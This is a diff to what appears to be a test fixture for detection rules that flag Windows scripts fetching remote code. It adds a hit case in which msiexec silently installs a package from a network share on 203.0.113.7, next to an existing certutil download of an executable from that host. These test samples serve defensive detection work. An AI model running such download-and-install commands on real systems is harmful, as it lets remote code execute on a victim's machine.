@@ -311,8 +311,14 @@ out.print(System.getProperty("os.name")); %>`,
     misses: { 'plain text': ['vbscript', 'MsgBox "hello"'] },
   },
   script_uses_system_tool_to_fetch: {
-    hits: { certutil: ['batch', 'certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe'] },
-    misses: { 'a hash by certutil': ['batch', 'certutil -hashfile a.exe SHA256'] },
+    hits: {
+      certutil: ['batch', 'certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe'],
+      'a package of a share without a name': ['batch', 'msiexec /qn /i \\\\203.0.113.7\\a\\a.msi'],
+    },
+    misses: {
+      'a hash by certutil': ['batch', 'certutil -hashfile a.exe SHA256'],
+      'a package of the office': ['batch', 'msiexec /qn /i \\\\10.1.2.3\\a\\a.msi'],
+    },
   },
   script_injects_code: {
     hits: {
